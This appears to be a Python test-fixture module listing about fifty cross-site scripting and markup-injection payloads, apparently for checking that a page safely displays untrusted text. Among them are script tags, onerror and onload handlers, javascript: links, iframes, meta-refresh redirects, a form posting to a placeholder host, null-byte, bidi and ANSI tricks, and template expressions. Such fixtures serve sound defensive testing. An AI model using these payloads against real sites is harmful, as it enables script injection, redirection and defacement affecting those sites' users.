"""Texts that try to do something on the page that shows them: run, load, lead away, disfigure or hide.

`window.ran` would hold the name of one that has run. Each shows the word with its name wherever a page tells its reader
what stood there.
"""

from __future__ import annotations

RUN = "window.ran=(window.ran||'')+' {name}';alert('{name}')"
OUTSIDE = "http://outside.example"

# By name; RUN and OUTSIDE are filled in, and every text begins with the word that has to be seen.
_TEXTS = {
    "script": "<script>RUN</script>",
    "script-src": "<script src='OUTSIDE/x.js'></script>",
    "image": '<img src=x onerror="RUN">',
    "image-in-capitals": "<IMG SRC=x OnErRoR=\"RUN\">",
    "image-with-entities": "<img src=x onerror=&#97;lert(1)>",
    "image-outside": "<img src='OUTSIDE/pixel.png'>",
    "image-unclosed": '<img src=x onerror="RUN" ',
    "svg": '<svg onload="RUN">',
    "svg-animate": '<svg><animate onbegin="RUN" attributeName=x dur=1s>',
    "math": "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
    "iframe": "<iframe src='OUTSIDE/frame'></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "object": "<object data='data:text/html,<script>RUN</script>'></object>",
    "style-import": "<style>@import 'OUTSIDE/x.css'; body { display: none }</style>",
    "style-attribute": "<p style='position:fixed;inset:0;background:url(OUTSIDE/x.png)'>over everything",
    "link-element": "<link rel=stylesheet href='OUTSIDE/x.css'>",
    "details": '<details open ontoggle="RUN">x</details>',
    "focus": '<input autofocus onfocus="RUN">',
    "form": "<form action='OUTSIDE/post'><button autofocus>Full credit</button></form>",
    "base": "<base href='OUTSIDE/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=OUTSIDE/away'>",
    "link": "[see](javascript:RUN)",
    "link-with-entities": "[see](java&#115;cript&colon;alert(1))",
    "link-with-title": "[see](OUTSIDE/x '\"onmouseover=\"RUN')",
    "link-by-reference": "[see][there]\n\n[there]: javascript:alert(1)",
    "link-of-data": "[see](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-in-html": "<a href='javascript:RUN'>see</a>",
    "automatic-link": "<javascript:alert(1)>",
    "picture": "![seen](OUTSIDE/picture.png)",
    "picture-attached": "![seen](attachment:missing.png)",
    "comment": "<!-- x --><!--> <script>RUN</script> -->",
    "cdata": "<![CDATA[ <script>RUN</script> ]]>",
    "instruction": "<?xml version='1.0'?><?php x ?>",
    "ends-pre": "</code></pre></div></section><script>RUN</script>",
    "ends-title": "</title></style></script></textarea><script>RUN</script>",
    "ends-attribute": "\"><script>RUN</script>",
    "template": "<template><script>RUN</script></template><noscript><p title='</noscript><script>RUN</script>'>",
    "fence": "```html\n<script>RUN</script>\n```",
    "fence-info": "```\"onmouseover=\"RUN\nx\n```",
    "mermaid": "```mermaid\ngraph TD; a[\"<img src=x onerror='RUN'>\"]\n```",
    "span": '`<p title="`"><img src=x onerror="RUN">',
    "table": "| a | <script>RUN</script> |\n|---|---|\n| [x](javascript:alert(1)) | b |",
    "latex-href": r"$\href{javascript:RUN}{x}$ $$\require{html}\cssId{x}{y}$$",
    "latex-html": r"$<img src=x onerror='RUN'>$ \begin{a}<script>RUN</script>\end{a}",
    "null": "<scr\x00ipt>RUN</scr\x00ipt><\x00img src=x onerror='RUN'>",
    "bidi": "\u202enothing is wrong\u202c\u2066\u200b",
    "ansi": "\x1b[31mred\x1b[0m<\x1b[0mscript>RUN</script>\x1b]8;;javascript:alert(1)\x07see\x1b]8;;\x07",
    "entities": "&lt;script&gt;RUN&lt;/script&gt; &#60;script&#62;RUN&#60;/script&#62;",
    "jinja": "{{ 7 * 191 }} {% raw %} {# x #}",
    "long-line": "<b>" * 2_000,
    "unclosed": "<div><b><i><table><ul><plaintext",
}  # fmt: skip


def _filled_in(name: str, text: str) -> str:
    text = text.replace("RUN", RUN.format(name=name)).replace("OUTSIDE", OUTSIDE)
    return f"seen-{name} {text}"


MARKUP = {name: _filled_in(name, text) for name, text in _TEXTS.items()}
ALL = "\n\n".join(MARKUP.values())
